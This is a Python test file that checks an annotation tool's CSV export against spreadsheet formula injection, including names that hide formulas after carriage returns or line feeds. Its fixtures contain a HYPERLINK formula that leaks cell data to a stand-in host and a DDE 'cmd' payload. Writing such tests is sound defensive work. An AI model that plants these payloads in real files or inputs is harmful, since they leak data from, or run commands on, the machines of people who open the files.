"""The overview's CSV files open safely in a spreadsheet whatever the names in them hold.

A carriage return inside an annotator or label name used to be written unquoted (the rows
ended with a bare LF), so a spreadsheet started a new row there, and the rest of the name, a
``=HYPERLINK(…)``, ran as a formula. Every cell is now quoted as RFC 4180 asks and every *line*
of a cell that starts like a formula is escaped. Checked on the real files the overview writes
for a project with such names, and on any text (hypothesis) through the writer they share.
"""

from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from annotator.core.model import DocumentState, Layer, Span, Status
from annotator.core.spreadsheet import FORMULA_STARTS, is_safe, safe_cell, table_text
from annotator.services.overview import chart_tables, compute_overview, save_csv
from annotator.storage.database import Database

ATTACK = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'
NAMES = {
    "carriage return": f"ana\r{ATTACK}",
    "carriage return, no quote to force quoting": "dee\r=cmd|' /C calc'!A0",
    "line feed": f"bob\n{ATTACK}",
    "CR LF": f"cy\r\n+1+{ATTACK}",
    "leading": f"@{ATTACK}",
    "tab then formula": f"\t{ATTACK}",
    "minus": "-2+3",
}


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _spreadsheet_rows(text: str) -> int:
    """Rows as a spreadsheet counts them: a CR, an LF or a CR LF outside quotes ends one
    (Python's csv reader is more lenient and keeps a bare CR inside an unquoted cell)."""
    rows, quoted, index = 0, False, 0
    while index < len(text):
        char = text[index]
        if char == '"':
            quoted = not quoted
        elif char in "\r\n" and not quoted:
            rows += 1
            if text.startswith("\r\n", index):
                index += 1
        index += 1
    return rows + (1 if text and text[-1] not in "\r\n" else 0)


def _lines(cell: str) -> list[str]:
    return cell.splitlines(keepends=True) or [cell]


def test_names_with_line_breaks_cannot_run_as_formulas_in_the_overview_csv(
    tmp_path: Path,
) -> None:
    db = Database.open(tmp_path / "project.sqlite")
    try:
        text = "Anna Berg met the mayor.\n"
        with db.write() as store:
            ids = store.insert_documents(
                [
                    {
                        "title": "One",
                        "text": text,
                        "sha256": hashlib.sha256(text.encode()).hexdigest(),
                    }
                ]
            )
            document = next(iter(ids.values()))
            for name in NAMES.values():
                store.add_span(Span(None, document, Layer.ENTITY, 0, 9, "PERSON", name))
                store.set_state(DocumentState(document, name, Status.DONE, 30.0))
        tables = chart_tables(compute_overview(db))
    finally:
        db.close()
    written = 0
    for table in tables:
        target = tmp_path / "csv" / f"{table.key}.csv"
        save_csv(table, target)
        rows = _rows(target)
        expected = table.csv_rows()
        # No name broke a row in two: the file has the table's rows, cell for cell.
        raw = target.read_bytes().decode("utf-8")
        assert _spreadsheet_rows(raw) == len(expected), raw[:400]
        assert len(rows) == len(expected), raw[:400]
        for row, want in zip(rows, expected, strict=True):
            assert row == [safe_cell(cell) for cell in want]
            for cell in row:
                for line in _lines(cell):
                    assert not line.startswith(FORMULA_STARTS), (table.key, cell)
        flat = "\n".join(",".join(row) for row in rows)
        if "ana" in flat:
            written += 1
            assert f"ana\r'{ATTACK}" in [cell for row in rows for cell in row]
    assert written, "no table named the annotators: the checks above proved nothing"


def test_the_escape_marks_each_line() -> None:
    assert safe_cell("PERSON") == "PERSON"
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("ana\r=1+1") == "ana\r'=1+1"
    assert safe_cell("a\n-b\r\n+c\rd") == "a\n'-b\r\n'+c\rd"
    assert safe_cell("\t=1") == "'\t=1"
    assert safe_cell("") == ""
    assert safe_cell("x = 1") == "x = 1"  # only a line's start counts


def test_cells_are_quoted_so_a_line_break_stays_inside_its_cell() -> None:
    text = table_text([["name", "count"], ["ana\r=1", "2"], ["b,c", 'say "hi"']])
    assert text == 'name,count\r\n"ana\r\'=1",2\r\n"b,c","say ""hi"""\r\n'
    tab = table_text([["a\tb", "c\rd"]], delimiter="\t")
    assert tab == '"a\tb"\t"c\rd"\r\n'


@given(st.lists(st.lists(st.text(max_size=12), min_size=1, max_size=4), min_size=1, max_size=5))
def test_any_text_reads_back_row_for_row_and_never_as_a_formula(
    rows: list[list[str]],
) -> None:
    text = table_text(rows)
    assert _spreadsheet_rows(text) == len(rows)
    read = list(csv.reader(io.StringIO(text, newline="")))
    # csv writes a row of one empty cell as an empty line, which it reads back as [].
    assert [row or [""] for row in read] == [[safe_cell(c) for c in row] for row in rows]
    for row in read:
        for cell in row:
            assert is_safe(cell)
